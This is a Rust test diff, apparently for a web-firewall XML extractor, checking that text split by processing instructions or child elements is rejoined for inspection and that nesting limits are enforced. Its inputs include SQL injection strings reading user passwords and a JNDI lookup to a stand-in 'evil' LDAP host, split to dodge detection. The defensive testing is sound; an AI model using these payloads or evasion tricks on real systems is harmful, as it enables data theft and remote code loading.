@@ -730,6 +730,97 @@ fn xml_processor_markup_is_a_target() {
     assert!(!t.iter().any(|(a, _)| a.ends_with("/<tag>")), "{t:?}");
 }
 
+/// A processing instruction does not end the text around it, as a comment does not; an
+/// element with mixed content is also a target holding its joined text (its own and its
+/// descendants', in document order), each piece staying one too.
+#[test]
+fn xml_text_is_joined_across_instructions_and_child_elements() {
+    let xml = |b: &str| {
+        let (t, f, _) = body(Some("application/xml"), b.as_bytes());
+        assert!(f.is_empty(), "{b}: {f:?}");
+        t
+    };
+    assert_eq!(
+        xml("<r><q>1' UNI<?x?>ON SELECT password FROM users--</q></r>"),
+        vec![
+            p("body:?pi", "<?x?>"),
+            p("body:/r/q", "1' UNION SELECT password FROM users--"),
+        ]
+    );
+    assert_eq!(
+        xml("<r><q>${jn<?x?>di:ldap://evil/a}</q></r>"),
+        vec![
+            p("body:?pi", "<?x?>"),
+            p("body:/r/q", "${jndi:ldap://evil/a}")
+        ]
+    );
+    assert_eq!(
+        xml("<r><q>1' UNI<b/>ON SELECT password FROM users--</q></r>"),
+        vec![
+            p("body:/r/q", "1' UNI"),
+            p("body:/r/q", "ON SELECT password FROM users--"),
+            p("body:/r/q", "1' UNION SELECT password FROM users--"),
+        ]
+    );
+    assert_eq!(
+        xml("<r><q>x' O<b/>R 'a'='a</q></r>"),
+        vec![
+            p("body:/r/q", "x' O"),
+            p("body:/r/q", "R 'a'='a"),
+            p("body:/r/q", "x' OR 'a'='a"),
+        ]
+    );
+    // Descendants' text in document order, at every level with text of its own; an
+    // instruction, a comment and references inside.
+    assert_eq!(
+        xml("<r><q>a<b>b<c>c</c>d</b>e<?x?>&amp;<!-- -->f</q></r>"),
+        vec![
+            p("body:/r/q", "a"),
+            p("body:/r/q/b", "b"),
+            p("body:/r/q/b/c", "c"),
+            p("body:/r/q/b", "d"),
+            p("body:/r/q/b", "bcd"),
+            p("body:?pi", "<?x?>"),
+            p("body:/r/q", "e&f"),
+            p("body:/r/q", "abcde&f"),
+        ]
+    );
+    // Blanks between children are not text of the element's own; one run is no join.
+    assert_eq!(
+        xml("<order>\n  <id>1</id>\n  <name>x</name>\n</order>"),
+        vec![p("body:/order/id", "1"), p("body:/order/name", "x")]
+    );
+    assert_eq!(xml("<r><q>text<b/></q></r>"), vec![p("body:/r/q", "text")]);
+    assert_eq!(
+        xml("<r><q> a <b> </b> </q></r>"),
+        vec![p("body:/r/q", " a ")]
+    );
+}
+
+/// Elements with joined text nested more than 8 deep are rule 1002: each level inspects the
+/// text inside it again. Their targets stay within the value limit.
+#[test]
+fn xml_joined_text_is_bounded() {
+    let nested = |n: usize| format!("<r>{}y{}</r>", "<a>x<b/>".repeat(n), "</a>".repeat(n));
+    let (t, f, _) = body(Some("text/xml"), nested(8).as_bytes());
+    assert!(f.is_empty(), "{f:?}");
+    assert_eq!(t.iter().filter(|(_, v)| v.len() > 1).count(), 8, "{t:?}");
+    assert!(t.contains(&p("body:/r/a", "xxxxxxxxy")), "{t:?}");
+    let (_, f, _) = body(Some("text/xml"), nested(9).as_bytes());
+    assert_eq!(f, vec![1002]);
+    // Side by side they are no deeper.
+    let wide = format!("<r>{}</r>", "<a>x<b/>y</a>".repeat(1000));
+    let (t, f, _) = body(Some("text/xml"), wide.as_bytes());
+    assert!(f.is_empty(), "{f:?}");
+    assert_eq!(t.len(), 3000);
+    let limits = ExtractLimits {
+        max_targets: 100,
+        ..ExtractLimits::default()
+    };
+    let (t, f, _) = body_with(Some("text/xml"), wide.as_bytes(), &limits);
+    assert_eq!((t.len(), f), (100, vec![1003]));
+}
+
 #[test]
 fn xml_types() {
     for ct in [
